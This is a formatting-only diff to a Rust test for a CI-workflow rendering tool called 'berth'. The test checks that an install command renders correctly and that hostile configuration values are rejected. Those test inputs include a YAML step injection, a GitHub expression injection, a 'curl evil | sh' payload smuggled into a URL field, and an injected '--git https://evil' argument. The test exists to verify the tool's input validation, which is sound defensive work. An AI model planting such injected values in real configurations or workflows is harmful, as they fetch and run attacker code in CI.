@@ -482,9 +482,8 @@ fn proxy_listen_v6_is_bracketed_and_default_is_every_interface() {
 
 /// The "Install berth" step of the rendered workflow.
 fn install_step(repo: &GitRepo) -> String {
-    let text =
-        std::fs::read_to_string(repo.path().join("deploy/prod/github/workflows/berth.yml"))
-            .unwrap();
+    let text = std::fs::read_to_string(repo.path().join("deploy/prod/github/workflows/berth.yml"))
+        .unwrap();
     let doc: serde_norway::Value = serde_norway::from_str(&text).unwrap();
     let steps = doc["jobs"]["plan"]["steps"].as_sequence().unwrap();
     let step = steps
@@ -554,25 +553,42 @@ fn the_workflow_installs_berth_the_way_ci_says() {
         "install_command = \"pipx install berth-bin # x: \\\"y\\\" ]]\"",
     );
     run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
-    assert_eq!(
-        install_step(&repo),
-        "pipx install berth-bin # x: \"y\" ]]"
-    );
+    assert_eq!(install_step(&repo), "pipx install berth-bin # x: \"y\" ]]");
     actionlint(&repo);
 
     // Hostile values are refused with a located error, nothing rendered.
     for (value, at) in [
-        ("install_command = \"x\\n      - run: evil\"", "ci.install_command"),
-        ("install_command = \"echo ${{ github.head_ref }}\"", "ci.install_command"),
-        ("berth_url = \"https://x.io/b'; curl evil | sh; '\"", "ci.berth_url"),
-        ("berth_version = \"1.0.0 --git https://evil\"", "ci.berth_version"),
+        (
+            "install_command = \"x\\n      - run: evil\"",
+            "ci.install_command",
+        ),
+        (
+            "install_command = \"echo ${{ github.head_ref }}\"",
+            "ci.install_command",
+        ),
+        (
+            "berth_url = \"https://x.io/b'; curl evil | sh; '\"",
+            "ci.berth_url",
+        ),
+        (
+            "berth_version = \"1.0.0 --git https://evil\"",
+            "ci.berth_version",
+        ),
     ] {
         let before = std::fs::read_to_string(repo.path().join("berth.toml")).unwrap();
-        let line = before.lines().find(|l| l.starts_with("install_command") || l.starts_with("berth_")).unwrap().to_string();
+        let line = before
+            .lines()
+            .find(|l| l.starts_with("install_command") || l.starts_with("berth_"))
+            .unwrap()
+            .to_string();
         edit(&repo, &line, value);
         let out = run(repo.path(), &["render", "--env", "prod"]);
         out.assert_code(2);
-        assert!(out.stderr.contains(at) && out.stderr.contains("berth.toml:"), "{}", out.snapshot());
+        assert!(
+            out.stderr.contains(at) && out.stderr.contains("berth.toml:"),
+            "{}",
+            out.snapshot()
+        );
         repo.write("berth.toml", &before);
     }
 }
